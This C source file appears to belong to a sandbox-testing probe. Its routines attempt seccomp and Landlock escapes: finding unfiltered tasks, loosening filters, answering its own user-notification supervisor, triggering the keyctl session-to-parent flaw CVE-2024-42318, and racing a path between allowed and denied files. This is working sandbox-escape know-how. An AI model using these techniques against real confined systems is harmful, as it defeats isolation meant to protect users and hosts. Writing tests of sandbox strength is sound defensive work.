/* Getting rid of a filter, or past one that looks at memory. */
#include "probe.h"

#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/keyctl.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define CPU_TIME (CLOCKS_PER_SEC / 5) /* of both threads */

/* ---- Tasks without a filter ---- */

/* 1 if this task has none, 0 if it has one, 2 if that can't be told. */
static int unfiltered(void) {
        char text[4096];
        if (slurp("/proc/thread-self/status", text, sizeof text) < 0)
                return 2;
        const char *at = strstr(text, "\nSeccomp:");
        return at == NULL ? 2 : strtol(at + strlen("\nSeccomp:"), NULL, 10) != SECCOMP_MODE_FILTER;
}

static void *look(void *ret_found) {
        *(int *) ret_found |= unfiltered();
        return NULL;
}

/* Threads, children, and children that share their parent's memory. */
static long some_unfiltered(char **a) {
        int found = unfiltered();
        (void) a;
        for (int i = 0; i < 4; i++) {
                pthread_t thread;
                int error = pthread_create(&thread, NULL, look, &found);
                if (error)
                        return failed(error);
                pthread_join(thread, NULL);
        }
        for (int depth = 0; depth < 3; depth++) {
                int status;
                pid_t child = depth < 2 ? fork() : (pid_t) syscall(SYS_clone, SIGCHLD, NULL, NULL, NULL, NULL);
                if (child == 0) {
                        if (depth == 1 && (child = fork()) > 0) {
                                waitpid(child, &status, 0);
                                _exit(WEXITSTATUS(status) | unfiltered());
                        }
                        _exit(unfiltered());
                }
                if (child < 0 || waitpid(child, &status, 0) < 0)
                        return -1;
                found |= WEXITSTATUS(status);
        }
        if (found & 2)
                return failed(EIO);
        return found ? 0 : failed(ESRCH);
}

/* ---- Filters and credentials of one's own ---- */

static long add_filter(unsigned answer, unsigned long call, unsigned flags) {
        struct sock_filter code[] = {
                BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
                BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (unsigned) call, 0, 1),
                BPF_STMT(BPF_RET | BPF_K, answer),
                BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        };
        struct sock_fprog program = { sizeof code / sizeof *code, code };
        return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &program);
}

/* All that could loosen a filter, then a call that it refuses. */
static long loosen(char **a) {
        (void) a;
        prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0);
        prctl(PR_SET_SECCOMP, SECCOMP_MODE_DISABLED, 0, 0, 0);
        add_filter(SECCOMP_RET_ALLOW, SYS_ptrace, 0);
        add_filter(SECCOMP_RET_ALLOW, SYS_ptrace, SECCOMP_FILTER_FLAG_TSYNC);
        add_filter(SECCOMP_RET_LOG, SYS_ptrace, SECCOMP_FILTER_FLAG_LOG);
        return ptrace(PTRACE_TRACEME, 0, NULL, NULL);
}

/* The kernel gives nobody a way to clear it. */
static long clear_no_new_privs(char **a) {
        (void) a;
        int refused = prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0);
        int error = errno, set = prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0);
        say("no_new_privs is %d", set);
        return set == 0 ? 0 : refused < 0 ? failed(error) : nothing();
}

static void answer_everything(int listener) {
        struct seccomp_notif asked;
        memset(&asked, 0, sizeof asked);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &asked) == 0) {
                struct seccomp_notif_resp answer = { .id = asked.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };
                ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
        }
        _exit(0);
}

/* A supervisor of one's own that says "go on" to a call which the filter refuses. */
static long own_supervisor(char **a) {
        int status = 0;
        (void) a;
        prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
        int listener = (int) add_filter(SECCOMP_RET_USER_NOTIF, SYS_ptrace, SECCOMP_FILTER_FLAG_NEW_LISTENER);
        if (listener < 0)
                return -1;
        pid_t helper = fork();
        if (helper == 0)
                answer_everything(listener);
        pid_t caller = fork();
        if (caller == 0)
                _exit(ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0 ? errno : 0);
        waitpid(caller, &status, 0);
        kill(helper, SIGKILL); /* where the filter answers by itself, nobody asks it anything */
        waitpid(helper, NULL, 0);
        return WEXITSTATUS(status) ? failed(WEXITSTATUS(status)) : 0;
}

/* CVE-2024-42318: the parent gets other credentials, and with them lost its Landlock domain. */
static long session_to_parent(char **a) {
        (void) a;
        pid_t child = fork();
        if (child == 0) {
                syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, 0, 0, 0, 0);
                _exit(syscall(SYS_keyctl, KEYCTL_SESSION_TO_PARENT, 0, 0, 0, 0) < 0 ? errno : 0);
        }
        int status = 0;
        waitpid(child, &status, 0);
        return WEXITSTATUS(status) ? failed(WEXITSTATUS(status)) : 0;
}

/* ---- A path that changes while it is looked at ---- */

static const char *two_paths[2];
static size_t length_of_both;
static char flipped[4096];
static volatile int flipping;

static void *flip(void *unused) {
        for (unsigned turn = 0; flipping; turn++)
                memcpy(flipped, two_paths[turn & 1], length_of_both);
        return unused;
}

/* With as many slashes in front as make it so long. */
static const char *padded(const char *path) {
        char *text = malloc(length_of_both + 1);
        size_t more = length_of_both - strlen(path);
        if (text != NULL) {
                memset(text, '/', more);
                strcpy(text + more, path);
        }
        return text;
}

/* Opens a path that another thread changes between one that is granted and one that is not. */
static long flip_path(char **a) {
        pthread_t thread;
        long gained = 0;
        struct stat granted, got;
        length_of_both = strlen(a[0]) > strlen(a[1]) ? strlen(a[0]) : strlen(a[1]);
        two_paths[0] = padded(a[0]), two_paths[1] = padded(a[1]);
        if (length_of_both >= sizeof flipped || two_paths[0] == NULL || two_paths[1] == NULL)
                return failed(EINVAL);
        flipping = 1;
        int error = stat(a[0], &granted) < 0 ? errno : pthread_create(&thread, NULL, flip, NULL);
        if (error)
                return failed(error);
        for (clock_t end = clock() + CPU_TIME; clock() < end && !gained;) {
                char byte;
                int fd = open(flipped, O_RDONLY | O_CLOEXEC);
                if (fd < 0)
                        continue;
                gained = fstat(fd, &got) == 0 && got.st_ino != granted.st_ino && read(fd, &byte, 1) == 1;
                close(fd);
        }
        flipping = 0;
        pthread_join(thread, NULL);
        return gained ? 0 : failed(ENOENT);
}

const struct verb loosen_verbs[] = {
        { "unfiltered-task", some_unfiltered, 0 },
        { "loosen", loosen, 0 },
        { "clear-no-new-privs", clear_no_new_privs, 0 },
        { "own-supervisor", own_supervisor, 0 },
        { "session-to-parent", session_to_parent, 0 },
        { "flip-path", flip_path, 2 },
        END_OF_VERBS,
};
